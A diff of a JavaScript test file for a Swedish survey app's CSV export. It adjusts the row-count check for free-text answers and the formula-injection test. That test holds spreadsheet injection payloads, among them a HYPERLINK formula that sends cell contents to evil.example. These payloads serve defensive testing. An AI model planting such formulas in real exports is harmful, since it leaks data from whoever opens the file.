@@ -525,8 +525,12 @@ test('export: the long CSV has as many rows as the database has answers; logged'
 	assert.equal(r.headers.get('content-disposition'), 'attachment; filename="svar-lang.csv"');
 	writeFileSync(join(L.env.artifacts, 'svar-lang.csv'), r.buf);
 	const rows = L.parseCsv(r.text);
+	// Free text only on request: the long form has every other answer.
 	const want = L.num(`SELECT count(*) FROM uppfolj.answer a JOIN uppfolj.response r USING (response_id)
-		JOIN uppfolj.participant p USING (participant_id) WHERE p.study_id = ${sid} AND r.status = 'submitted'`);
+		JOIN uppfolj.participant p USING (participant_id)
+		JOIN uppfolj.instrument_item ii ON ii.instrument_id = a.instrument_id AND ii.version = a.version
+			AND ii.item_id = a.item_id
+		WHERE p.study_id = ${sid} AND r.status = 'submitted' AND ii.item_type <> 'text'`);
 	assert.equal(rows.length - 1, want);
 	assert.ok(rows.every((x) => x.length === rows[0].length), 'every row has every column');
 	assert.equal(L.auditCount('export.long', 'web:' + evaluator.name), before + 1);
@@ -551,7 +555,7 @@ test('export: the long CSV has as many rows as the database has answers; logged'
 const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1',
 	'=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'];
 
-test('export: formula answers (= + - @ tab CR, HYPERLINK) get a leading \' in both answer CSVs', async () => {
+test('export: formula answers (= + - @ tab CR, HYPERLINK) get a leading \' in both answer CSVs (with free text)', async () => {
 	const sid = L.studyId();
 	const pay = FORMULAS.map((v, i) => `(${i + 1}, ${L.lit(v)})`).join(', ');
 	L.sql(`WITH pay(k, v) AS (VALUES ${pay}),
@@ -566,7 +570,7 @@ test('export: formula answers (= + - @ tab CR, HYPERLINK) get a leading \' in bo
 			dont_know = false`);
 	const e = await L.loggedIn(evaluator);
 	for (const file of ['svar-lang.csv', 'svar-bred.csv']) {
-		const r = await e.post('/admin/export/' + file);
+		const r = await e.post('/admin/export/' + file, { fritext: 'ja' });
 		assert.equal(r.status, 200);
 		writeFileSync(join(L.env.artifacts, 'formula-' + file), r.buf);
 		const cells = new Set(L.parseCsv(r.text).flat());
